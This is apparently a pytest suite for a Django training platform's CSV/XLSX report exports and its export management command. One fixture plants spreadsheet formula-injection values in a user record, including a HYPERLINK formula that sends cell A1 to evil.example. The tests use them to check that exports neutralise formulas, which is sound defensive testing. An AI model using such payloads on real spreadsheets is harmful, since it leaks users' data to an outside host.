"""Exports of every report: UTF-8 CSV with a BOM (Excel), XLSX that openpyxl opens, the right
headings and rows, spreadsheet formulas neutralised, and the management command's file."""

import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.safestring import mark_safe
from openpyxl import load_workbook

from home.spreadsheet import FORMULA_PREFIXES, neutralise
from tests.learners.factories import UserFactory

from .conftest import enrol
from .utils import body, column, csv_rows, url, xlsx_rows

pytestmark = pytest.mark.django_db

COMPLETION_HEADINGS = [
    "Họ và tên",
    "Mã số công chức, viên chức",
    "Cơ quan, đơn vị",
    "Chức vụ",
    "Khóa học",
    "Ngày ghi danh",
    "Hạn hoàn thành",
    "Tiến độ (%)",
    "Trạng thái",
    "Quá hạn",
    "Ngày hoàn thành",
    "Điểm kiểm tra cao nhất (%)",
    "Số lượt làm bài",
    "Số giấy chứng nhận",
]


def test_completion_csv(district_client, people, course):
    response = district_client.get(url("reports_completion", course=course.pk, export="csv"))

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="ket-qua-hoc-tap-' in response["Content-Disposition"]
    rows = csv_rows(body(response))
    assert rows[0] == COMPLETION_HEADINGS
    assert column(rows, "Họ và tên") == [
        "Trần Thị An",
        "Phạm Thị Ánh",
        "Nguyễn Văn Bình",
        "Lê Văn Đức",
        "Cán bộ tổ chức HDS",
    ]
    binh = dict(zip(rows[0], rows[3], strict=True))
    finished = timezone.localtime(people["binh"].enrolments.get().completed_at)
    assert binh == {
        **binh,
        "Mã số công chức, viên chức": "HDS001",
        "Cơ quan, đơn vị": "Phòng Nội vụ huyện Đông Sơn",
        "Khóa học": "Tập huấn CCHC 2017",
        "Tiến độ (%)": "100",
        "Trạng thái": "Đã hoàn thành",
        "Quá hạn": "",
        "Ngày hoàn thành": finished.strftime("%d/%m/%Y %H:%M"),
        "Điểm kiểm tra cao nhất (%)": "90",
        "Số lượt làm bài": "2",
        "Số giấy chứng nhận": "GCN-HDS001",
    }
    an = dict(zip(rows[0], rows[1], strict=True))
    duc = dict(zip(rows[0], rows[4], strict=True))
    assert (an["Tiến độ (%)"], an["Trạng thái"]) == ("25", "Đang học")
    assert (duc["Quá hạn"], duc["Hạn hoàn thành"]) == (
        "Có",
        (timezone.localdate() - datetime.timedelta(days=1)).strftime("%d/%m/%Y"),
    )


def test_completion_xlsx(district_client, people, course):
    response = district_client.get(url("reports_completion", course=course.pk, export="xlsx"))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = xlsx_rows(body(response))
    assert rows[0] == COMPLETION_HEADINGS
    assert len(rows) == 6
    binh = dict(zip(rows[0], rows[3], strict=True))
    assert binh["Họ và tên"] == "Nguyễn Văn Bình"
    assert (binh["Tiến độ (%)"], binh["Điểm kiểm tra cao nhất (%)"], binh["Số lượt làm bài"]) == (
        100,
        90,
        2,
    )
    # Real dates, in local time, not text.
    completed = timezone.localtime(people["binh"].enrolments.get().completed_at)
    assert isinstance(binh["Ngày hoàn thành"], datetime.datetime)
    assert abs(binh["Ngày hoàn thành"] - completed.replace(tzinfo=None)) < datetime.timedelta(
        seconds=1
    )
    duc = dict(zip(rows[0], rows[4], strict=True))
    assert duc["Hạn hoàn thành"].date() == timezone.localdate() - datetime.timedelta(days=1)
    assert duc["Quá hạn"] == "Có"


def test_exports_keep_the_filters_and_order_but_not_the_page(district_client, people, course):
    rows = csv_rows(
        body(
            district_client.get(
                url(
                    "reports_completion",
                    course=course.pk,
                    status="not_started",
                    ordering="-name",
                    p=2,
                    export="csv",
                )
            )
        )
    )
    assert column(rows, "Họ và tên") == ["Cán bộ tổ chức HDS", "Lê Văn Đức", "Phạm Thị Ánh"]


def test_export_links_on_the_page(district_client, people, course):
    response = district_client.get(url("reports_completion", course=course.pk, p=1))

    html = response.text
    assert "Xuất tệp Excel" in html and "Xuất tệp CSV" in html
    view = response.context["view"]
    assert view.csv_export_url == f"/admin/reports/ket-qua-hoc-tap/?course={course.pk}&export=csv"
    assert view.xlsx_export_url.endswith("export=xlsx")


def test_agency_summary_exports(province_client, people, course):
    csv_data = body(province_client.get(url("reports_agencies", course=course.pk, export="csv")))
    xlsx_data = body(province_client.get(url("reports_agencies", course=course.pk, export="xlsx")))

    headings = [
        "Cơ quan, đơn vị",
        "Mã cơ quan",
        "Số người",
        "Đã ghi danh",
        "Đã hoàn thành",
        "Tỉ lệ hoàn thành (%)",
        "Quá hạn",
        "Điểm kiểm tra cao nhất trung bình (%)",
    ]
    assert csv_rows(csv_data) == [
        headings,
        ["UBND tỉnh Bình An", "TINH", "1", "0", "0", "0", "0", ""],
        ["UBND huyện Đông Sơn", "HDS", "5", "3", "1", "20", "1", "90"],
        ["UBND huyện Tân Hòa", "HTH", "2", "2", "1", "50", "1", "80"],
    ]
    assert xlsx_rows(xlsx_data) == [
        headings,
        ["UBND tỉnh Bình An", "TINH", 1, 0, 0, 0, 0, None],
        ["UBND huyện Đông Sơn", "HDS", 5, 3, 1, 20, 1, 90],
        ["UBND huyện Tân Hòa", "HTH", 2, 2, 1, 50, 1, 80],
    ]


def test_transcript_exports(district_client, people, course):
    person = people["binh"]
    csv_data = body(district_client.get(url("reports_person", person.pk, export="csv")))
    xlsx = xlsx_rows(body(district_client.get(url("reports_person", person.pk, export="xlsx"))))

    rows = csv_rows(csv_data)
    assert rows[0] == [
        "Khóa học",
        "Chuyên đề",
        "Loại",
        "Nội dung",
        "Trạng thái",
        "Xem lần đầu",
        "Xem lần cuối",
        "Hoàn thành lúc",
        "Điểm cao nhất (%)",
        "Số lượt làm bài",
    ]
    assert [(row[2], row[3]) for row in rows[1:]] == [
        ("Chuyên đề", "Chuyên đề 1"),
        ("Bài học", "Bài 1.1"),
        ("Bài học", "Bài 1.2"),
        ("Bài kiểm tra", "Bài kiểm tra 1"),
        ("Chuyên đề", "Chuyên đề 2"),
        ("Bài học", "Bài 2.1"),
        ("Bài học", "Bài 2.2"),
        ("Bài kiểm tra", "Bài kiểm tra 2"),
    ]
    assert rows[4][8:] == ["90", "2"]
    assert len(xlsx) == len(rows)
    assert xlsx[4][8:] == [90, 2]


# Formula neutralisation ---------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_prefixes_an_apostrophe(prefix):
    assert neutralise(f"{prefix}1+1") == f"'{prefix}1+1"


def test_neutralise_catches_str_subclasses():
    assert neutralise(mark_safe("=1+1")) == "'=1+1"


@pytest.mark.parametrize(
    "value", ["Nguyễn Văn An", "", "1+1", "a=b", "'=x", 12, Decimal("-5"), None]
)
def test_neutralise_leaves_everything_else(value):
    assert neutralise(value) == value


@pytest.fixture
def mischief(agencies, course):
    return UserFactory(
        full_name='=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        employee_code="-2+3",
        position="@SUM(A1:A9)",
        agency=agencies["HDS-NV"],
    )


def test_formulas_are_neutralised_in_csv_and_xlsx(district_client, people, course, mischief):
    address = url("reports_completion", course=course.pk, agency=mischief.agency_id)
    csv_data = csv_rows(body(district_client.get(f"{address}&export=csv")))
    xlsx_data = xlsx_rows(body(district_client.get(f"{address}&export=xlsx")))

    for rows in (csv_data, xlsx_data):
        row = next(r for r in rows if "HYPERLINK" in str(r[0]))
        assert row[0] == "'" + mischief.full_name
        assert row[1] == "'-2+3"
        assert row[3] == "'@SUM(A1:A9)"
        for cell in (c for r in rows for c in r if isinstance(c, str)):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_never_holds_a_formula_cell(district_client, people, course, mischief):
    data = body(district_client.get(url("reports_completion", course=course.pk, export="xlsx")))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]

    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# The management command --------------------------------------------------------------------


def test_command_writes_the_same_csv_as_the_report(admin_client_, people, course, tmp_path):
    output = tmp_path / "bao-cao" / "ket-qua.csv"

    call_command(
        "export_completion",
        "--format=csv",
        "--agency=HDS",
        "--course=cchc-2017",
        f"--output={output}",
        stdout=io.StringIO(),
    )

    agency = people["binh"].agency.get_parent()
    downloaded = body(
        admin_client_.get(
            url("reports_completion", course=course.pk, agency=agency.pk, export="csv")
        )
    )
    assert output.read_bytes() == downloaded
    assert column(csv_rows(downloaded), "Họ và tên")[:2] == ["Trần Thị An", "Phạm Thị Ánh"]


def test_command_writes_the_same_xlsx_rows_as_the_report(admin_client_, people, course, tmp_path):
    output = tmp_path / "ket-qua.xlsx"

    call_command(
        "export_completion", "--format", "xlsx", "--output", str(output), stdout=io.StringIO()
    )

    downloaded = body(admin_client_.get(url("reports_completion", export="xlsx")))
    assert xlsx_rows(output.read_bytes()) == xlsx_rows(downloaded)
    assert column(xlsx_rows(downloaded), "Họ và tên") == [
        "Trần Thị An",
        "Nguyễn Văn Bình",
        "Hoàng Văn Cường",
        "Lê Văn Đức",
        "Vũ Thị Em",
    ]


def test_command_refuses_unknown_agency_or_course(db, tmp_path):
    """A wrong code or slug is an error, not an empty file."""
    with pytest.raises(CommandError, match="KHONGCO"):
        call_command(
            "export_completion", "--format=csv", "--agency=KHONGCO", f"--output={tmp_path}/a.csv"
        )
    with pytest.raises(CommandError, match="khong-co"):
        call_command(
            "export_completion", "--format=csv", "--course=khong-co", f"--output={tmp_path}/a.csv"
        )


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_export_queries_do_not_grow_with_people(district_client, agencies, course, export):
    def count():
        address = url("reports_completion", course=course.pk, export=export)
        body(district_client.get(address))
        with CaptureQueriesContext(connection) as queries:
            rows = body(district_client.get(address))
        return len(queries), rows

    for _ in range(3):
        enrol(UserFactory(agency=agencies["HDS-NV"]), course)
    few, _rows = count()
    for _ in range(27):
        enrol(UserFactory(agency=agencies["HDS-NV"]), course)
    many, data = count()

    assert many == few
    rows = csv_rows(data) if export == "csv" else xlsx_rows(data)
    assert len(rows) == 1 + 30 + 1  # heading, the people, the officer
